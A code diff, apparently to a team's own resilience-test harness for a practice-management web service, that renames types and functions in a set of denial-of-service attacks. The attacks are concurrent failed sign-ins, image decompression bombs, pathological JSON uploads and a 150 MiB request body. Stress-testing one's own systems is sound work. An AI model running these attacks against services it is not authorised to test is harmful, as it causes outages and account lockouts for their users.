@@ -9,16 +9,16 @@ export interface Victim {
   url: string;
   token: string;
   practice: number;
-  /** The email address of a user who may sign in. */
+  /** The email address of a user who can sign in. */
   email: string;
-  /** A Cookie header of a member of the practice's staff. */
+  /** The Cookie header of a staff member of the practice. */
   cookie: string;
-  /** The result of {@link imageBombs}, created before the attack because that takes longer than sending them. */
+  /** The result of {@link createImageBombs}, created before the attack because that takes longer than sending them. */
   bombs: readonly Buffer[];
 }
 
 /** The result of one request of an attack. */
-export interface Attempt {
+export interface AttackResult {
   outcome: string;
   ms: number;
 }
@@ -26,17 +26,17 @@ export interface Attempt {
 export const ATTACKS = { "sign-ins": signIns, images, upload, body } as const;
 export type AttackName = keyof typeof ATTACKS;
 
-const timed = async (work: () => Promise<string>): Promise<Attempt> => {
+const timed = async (work: () => Promise<string>): Promise<AttackResult> => {
   const started = performance.now();
   const outcome = await work().catch((error: NodeJS.ErrnoException) => error.code ?? error.message);
   return { outcome, ms: performance.now() - started };
 };
 
-/** Sends 40 sign-ins at once: half with wrong passwords for one account, half for unknown addresses. */
-async function signIns({ url, email }: Victim): Promise<Attempt[]> {
-  const tries = Array.from({ length: 40 }, (_, index) => (index % 2 === 0 ? email : `nobody-${index}@example.org`));
+/** Signs in 40 times at once: half with wrong passwords for one account, half for unknown addresses. */
+async function signIns({ url, email }: Victim): Promise<AttackResult[]> {
+  const addresses = Array.from({ length: 40 }, (_, index) => (index % 2 === 0 ? email : `nobody-${index}@example.org`));
   return Promise.all(
-    tries.map((address) =>
+    addresses.map((address) =>
       timed(async () => {
         const { status, error } = await new Browser(url).signIn(address, "a wrong password");
         return `${status} ${error ?? "signed in"}`;
@@ -47,8 +47,8 @@ async function signIns({ url, email }: Victim): Promise<Attempt[]> {
 
 const [WIDTH, HEIGHT] = [8_000, 5_000];
 
-/** Images of 40 megapixels in a few kilobytes: PNG, interlaced PNG, and JPEG (which takes more bytes). */
-export async function imageBombs(): Promise<Buffer[]> {
+/** Creates images of 40 megapixels in a few kilobytes: a PNG, an interlaced PNG, and a JPEG, which takes more bytes. */
+export async function createImageBombs(): Promise<Buffer[]> {
   const row = 1 + WIDTH / 8;
   const png = pngOf({
     width: WIDTH,
@@ -63,7 +63,7 @@ export async function imageBombs(): Promise<Buffer[]> {
 }
 
 /** Sends ten requests at once, each with one image of 40 megapixels. */
-async function images({ url, token, practice, bombs }: Victim): Promise<Attempt[]> {
+async function images({ url, token, practice, bombs }: Victim): Promise<AttackResult[]> {
   const headers = { authorization: `Bearer ${token}`, "content-type": "application/json" };
   return Promise.all(
     Array.from({ length: 10 }, (_, index) =>
@@ -82,15 +82,15 @@ async function images({ url, token, practice, bombs }: Victim): Promise<Attempt[
 const UPLOAD_LIMIT_MS = 120_000;
 
 /**
- * Sends a file that is one object over 58,000 lines, with an empty list on each before `results`; then one of 58,000 lines that are
- * each a damaged record.
+ * Uploads two files for a check: one object with an empty list on each of 58,000 lines before `results`, then 58,000 damaged records,
+ * one on each line.
  */
-async function upload(victim: Victim): Promise<Attempt[]> {
+async function upload(victim: Victim): Promise<AttackResult[]> {
   const lists = await checkFile(victim, `{${'"a":[],\n'.repeat(58_000)}"results":[]}`);
   return [...lists, ...(await checkFile(victim, '{"a":[],}\n'.repeat(58_000)))];
 }
 
-async function checkFile({ url, practice, cookie }: Victim, content: string): Promise<Attempt[]> {
+async function checkFile({ url, practice, cookie }: Victim, content: string): Promise<AttackResult[]> {
   const file = Buffer.from(content);
   const runs = `${url}/api/staff/practices/${practice}/migrations`;
   const send = async (method: string, address: string, content?: Buffer | object) => {
@@ -133,10 +133,10 @@ async function checkFile({ url, practice, cookie }: Victim, content: string): Pr
 const BODY_BYTES = 150 * 1024 * 1024;
 
 /** Sends a body of 150 MiB to the sign-in. */
-async function body({ url }: Victim): Promise<Attempt[]> {
+async function body({ url }: Victim): Promise<AttackResult[]> {
   const chunk = Buffer.alloc(1024 * 1024, "a=b&");
   let sent = 0;
-  const attempt = await timed(
+  const result = await timed(
     () =>
       new Promise<string>((resolve, reject) => {
         const headers = { "content-type": "application/x-www-form-urlencoded", "content-length": BODY_BYTES };
@@ -155,5 +155,5 @@ async function body({ url }: Victim): Promise<Attempt[]> {
         write();
       }),
   );
-  return [{ ...attempt, outcome: `${attempt.outcome} after ${Math.round(sent / 1024 / 1024)} MiB` }];
+  return [{ ...result, outcome: `${result.outcome} after ${Math.round(sent / 1024 / 1024)} MiB` }];
 }
